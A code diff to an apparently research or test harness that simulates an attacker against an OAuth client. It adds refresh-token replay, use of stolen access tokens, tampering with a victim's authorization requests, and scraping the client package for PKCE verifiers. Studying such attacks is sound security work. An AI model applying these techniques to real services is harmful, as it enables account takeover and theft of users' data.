@@ -7,33 +7,40 @@ can: by starting a login of its own and reading where the client sends it.
 import asyncio
 import io
 import zipfile
-from collections.abc import Iterable
-from urllib.parse import urlencode
+from collections.abc import Callable, Iterable, Mapping
+from urllib.parse import parse_qsl, urlencode
 
 import httpx
 
-from attacker.hunt import Finding, Method, hunt
 from attacker.loot import LootBag, LootItem, NothingCapturedError, Sighting
-from attacker.pkce import Pair, new_pair
 from attacker.token_request import STRAIGHT, Bent, send
 from attacker.vantage import Leg, Vantage
-from attacker.wiretap import arguments_of, log_line, overhears, own_login, sightings
+from attacker.verifiers import Verifiers, method_of
+from attacker.wiretap import heard, overhears, own_login, sightings
 from reports.records import Exchange, Handover
 
-VICTIMS_LEGS = (Leg.AUTHORIZATION_RESPONSE, Leg.AUTHORIZATION_REQUEST)
+type Change = Callable[[dict[str, str]], Mapping[str, str]]
+"""What an attacker makes of the parameters of somebody's authorization request."""
 
 
 class Thief:
-    """One attacker in one play. ``client`` is the public address of the honest client."""
+    """One attacker in one play. ``client`` is the public address of the honest client.
+
+    ``change`` is what it makes of the victim's authorization requests, where it can alter them.
+    While ``lets_pass`` is not set, it holds up the client's token requests, where it reads them.
+    """
 
     def __init__(self, http: httpx.AsyncClient, loot: LootBag, client: str) -> None:
         self.loot = loot
         self.http = http
-        self._client = client
         self.metadata: dict[str, str] = {}
-        self._login: Sighting | None = None
         self.own_exchange = ""
-        self._pair: Pair | None = None
+        self.change: Change | None = None
+        self.lets_pass = asyncio.Event()
+        self.lets_pass.set()
+        self.verifiers = Verifiers(loot, self._studied, self._start_own_login, self._unpack_client)
+        self._client = client
+        self._login: Sighting | None = None
 
     @property
     def vantage(self) -> Vantage:
@@ -49,14 +56,12 @@ class Thief:
         for sighting in sightings(exchange):
             self.loot.show(sighting)
 
-    def read_arguments(self, handover: Handover) -> None:
-        """Take in the arguments of a process on the victim's machine."""
-        for sighting in arguments_of(handover):
-            self.loot.show(sighting)
+    def overhear(self, handover: Handover) -> None:
+        """Take in what reached it in another way than by HTTP: a log, the arguments of a process.
 
-    def read_log(self, handover: Handover) -> None:
-        """Take in a line of an access log that is open to it."""
-        for sighting in log_line(handover):
+        Also as far as the vantage reaches.
+        """
+        for sighting in heard(handover):
             self.loot.show(sighting)
 
     async def receive_code(self) -> LootItem:
@@ -66,9 +71,11 @@ class Thief:
         """
         return await self.loot.wait_for("code", Leg.AUTHORIZATION_RESPONSE)
 
-    def catch(self) -> LootItem | None:
-        """The newest code that has been shown already, if there is one."""
-        return self.loot.find("code", Leg.AUTHORIZATION_RESPONSE)
+    def catch(self, kind: str = "code") -> LootItem | None:
+        """The newest code (or other loot) of the victim's that was shown, if there is one."""
+        return self.loot.find(
+            kind, Leg.AUTHORIZATION_RESPONSE, Leg.TOKEN_REQUEST, Leg.TOKEN_RESPONSE
+        )
 
     async def study_client(self) -> None:
         """Start a login of its own, and see how the client asks for a code.
@@ -102,62 +109,33 @@ class Thief:
         }
         if verifier is not None:
             form["code_verifier"] = verifier.value
-        answer = await send(self.http, self.metadata["token_endpoint"], form, bent)
-        token = _member(answer, "access_token")
+        return await self._ask_for_token(form, bent)
+
+    async def refresh(self, token: LootItem | None, bent: Bent = STRAIGHT) -> LootItem | None:
+        """Use a refresh token (RFC 6749 section 6); the access token, or ``None`` if refused."""
         if token is None:
             return None
-        where = "the answer of the token endpoint"
-        return self.loot.add(LootItem("access_token", token, Leg.OWN, self.own_exchange, where))
-
-    async def use(self, token: LootItem | None) -> None:
-        """Read the victim's data at userinfo (OpenID Connect Core section 5.3), given a token."""
-        if token is not None:
-            bearer = {"Authorization": f"Bearer {token.value}"}
-            await self.http.get(self.metadata["userinfo_endpoint"], headers=bearer)
-
-    def best_guess_at_verifier(self) -> LootItem | None:
-        """The challenge behind the captured code, if it was seen: for ``plain``, the verifier."""
-        request = self._request_behind_code()
-        if request is None or "code_challenge" not in request.parameters:
-            return None
-        where = f"guessed: the challenge, read in {request.where}"
-        challenge = request.parameters["code_challenge"]
-        return self._verifier(challenge, request.leg, request.seen_in, where)
-
-    async def verifier_from_state(self) -> LootItem:
-        """The verifier that the victim's redirect carries in ``state``.
-
-        The thief proves on a login of its own where the verifier sits, then reads the same place
-        in the victim's ``state``. Raises :class:`NothingCapturedError`.
-        """
         await self.study_client()
-        own = self._own_login()
-        finding = await _prove(own, {own.where: own.parameters.get("state", "")})
-        theirs = self.loot.need("state", *VICTIMS_LEGS)
-        verifier = finding.recipe.apply(theirs.value)
-        if verifier is None:
-            raise NothingCapturedError("the victim's state has no verifier where the thief's has")
-        where = f"state of the victim's redirect > {finding.recipe}"
-        return self._verifier(verifier, theirs.leg, theirs.seen_in, where)
+        form = {
+            "grant_type": "refresh_token",
+            "refresh_token": token.value,
+            "client_id": self.loot.need("client_id", Leg.OWN).value,
+        }
+        return await self._ask_for_token(form, bent)
 
-    async def fixed_verifier(self) -> LootItem:
-        """The one verifier that every copy of the client uses.
+    async def use(self, token: LootItem | None, *, in_url: bool = False) -> None:
+        """Read the victim's data at userinfo (OpenID Connect Core section 5.3), given a token.
 
-        It shows itself on an own login with ``plain``; with ``S256`` in the code of the client,
-        for a thief whose vantage holds a copy. Either way two logins of the thief's own prove it:
-        the challenge does not change. Raises :class:`NothingCapturedError`.
+        As a bearer token in the header, or in the URL (RFC 6750 sections 2.1 and 2.3).
         """
+        if token is None:
+            return
         await self.study_client()
-        own, again = self._own_login(), await self._start_own_login()
-        if own.parameters.get("code_challenge") != again.parameters.get("code_challenge"):
-            raise NothingCapturedError("the challenge changes from login to login: nothing fixed")
-        texts = {again.where: again.text}
-        if _method(own) != Method.PLAIN:
-            texts = await self._unpack_client()
-        seen_in = self.own_exchange
-        finding = await _prove(own, texts)
-        where = f"{finding.source} > {finding.recipe}"
-        return self._verifier(finding.verifier, Leg.OWN, seen_in, where)
+        endpoint = self.metadata["userinfo_endpoint"]
+        if in_url:
+            await self.http.get(f"{endpoint}?{urlencode({'access_token': token.value})}")
+        else:
+            await self.http.get(endpoint, headers={"Authorization": f"Bearer {token.value}"})
 
     def build_authorization_request(
         self, more: Iterable[tuple[str, str]] = (), **changes: str | None
@@ -171,34 +149,33 @@ class Thief:
         template = self._own_login()
         request: dict[str, str | None] = dict(template.parameters)
         if "code_challenge" in request:
-            self._pair = new_pair(_method(template))
-            request["code_challenge"] = self._pair.challenge
+            request["code_challenge"] = self.verifiers.new_challenge(method_of(template))
         request |= changes
         pairs = [(name, value) for name, value in request.items() if value is not None]
         url = f"{template.text.partition('?')[0]}?{urlencode([*pairs, *more])}"
-        where = "built by itself"
-        self.loot.add(LootItem("authorization_request", url, Leg.OWN, self.own_exchange, where))
+        self._keep_request(url, self.own_exchange, "built by itself")
         return url
 
-    def own_verifier(self) -> LootItem | None:
-        """The verifier behind the challenge that the thief chose itself, if it chose one."""
-        if self._pair is None:
-            return None
-        return self._verifier(self._pair.verifier, Leg.OWN, self.own_exchange, "chosen by itself")
+    def alter(self, url: str, seen_in: str) -> str:
+        """The victim's authorization request as it travels on, past a thief who changes it."""
+        if self.change is None or not self.vantage.alters_request:
+            return url
+        address, _, query = url.partition("?")
+        altered = f"{address}?{urlencode(self.change(dict(parse_qsl(query))))}"
+        self._keep_request(altered, seen_in, "altered on its way")
+        return altered
 
     def make_up(self, kind: str, value: str) -> LootItem:
         """A value that the thief invents, such as a verifier that should not be accepted."""
         return self.loot.add(LootItem(kind, value, Leg.OWN, self.own_exchange, "made up"))
 
-    def _request_behind_code(self) -> Sighting | None:
-        """The newest request that was seen, with the ``state`` that came back beside the code."""
-        state = self.loot.find("state", Leg.AUTHORIZATION_RESPONSE)
-        for sighting in reversed(self.loot.sightings):
-            if sighting.leg is Leg.AUTHORIZATION_REQUEST and (
-                state is None or sighting.parameters.get("state") == state.value
-            ):
-                return sighting
-        return None
+    async def _ask_for_token(self, form: dict[str, str], bent: Bent) -> LootItem | None:
+        answer = await send(self.http, self.metadata["token_endpoint"], form, bent)
+        for kind in ("refresh_token", "access_token"):
+            if value := _member(answer, kind):
+                where = "the answer of the token endpoint"
+                self.loot.add(LootItem(kind, value, Leg.OWN, self.own_exchange, where))
+        return self.loot.find("access_token", Leg.OWN) if _member(answer, "access_token") else None
 
     async def _start_own_login(self) -> Sighting:
         answer = await self.http.get(self._client)
@@ -211,37 +188,26 @@ class Thief:
         self.loot.show(login)
         return login
 
+    async def _studied(self) -> Sighting:
+        await self.study_client()
+        return self._own_login()
+
     def _own_login(self) -> Sighting:
         if self._login is None:
             raise NothingCapturedError("the thief has not studied the client yet")
         return self._login
 
+    def _keep_request(self, url: str, seen_in: str, where: str) -> None:
+        self.loot.add(LootItem("authorization_request", url, Leg.OWN, seen_in, where))
+
     async def _unpack_client(self) -> dict[str, str]:
         if not self.vantage.unpacks_app:
-            raise NothingCapturedError("this thief holds no copy of the client")
+            return {}
         answer = await self.http.get(f"{self._client}/package.zip")
-        with zipfile.ZipFile(io.BytesIO(answer.raise_for_status().content)) as package:
+        if answer.is_error:  # nothing to download
+            return {}
+        with zipfile.ZipFile(io.BytesIO(answer.content)) as package:
             return {name: package.read(name).decode("latin-1") for name in package.namelist()}
-
-    def _verifier(self, value: str, leg: Leg, seen_in: str, where: str) -> LootItem:
-        return self.loot.add(LootItem("code_verifier", value, leg, seen_in, where))
-
-
-async def _prove(login: Sighting, texts: dict[str, str]) -> Finding:
-    """The verifier of this login's challenge, found in one of the texts."""
-    if "code_challenge" not in login.parameters:
-        raise NothingCapturedError("the client uses no PKCE, so there is no verifier")
-    # The search hashes a lot; the proxy and the browsers share this event loop.
-    challenge = login.parameters["code_challenge"]
-    finding = await asyncio.to_thread(hunt, texts, challenge, _method(login))
-    if finding is None:
-        raise NothingCapturedError("nothing the thief has seen hashes to the challenge")
-    return finding
-
-
-def _method(login: Sighting) -> str:
-    # RFC 7636 section 4.3: left out, it is plain.
-    return login.parameters.get("code_challenge_method", Method.PLAIN)
 
 
 def _member(answer: httpx.Response, name: str) -> str | None:
@@ -249,4 +215,5 @@ def _member(answer: httpx.Response, name: str) -> str | None:
         body = answer.json()
     except ValueError:
         return None
-    return body.get(name) if isinstance(body, dict) else None
+    value = body.get(name) if isinstance(body, dict) else None
+    return value if isinstance(value, str) else None
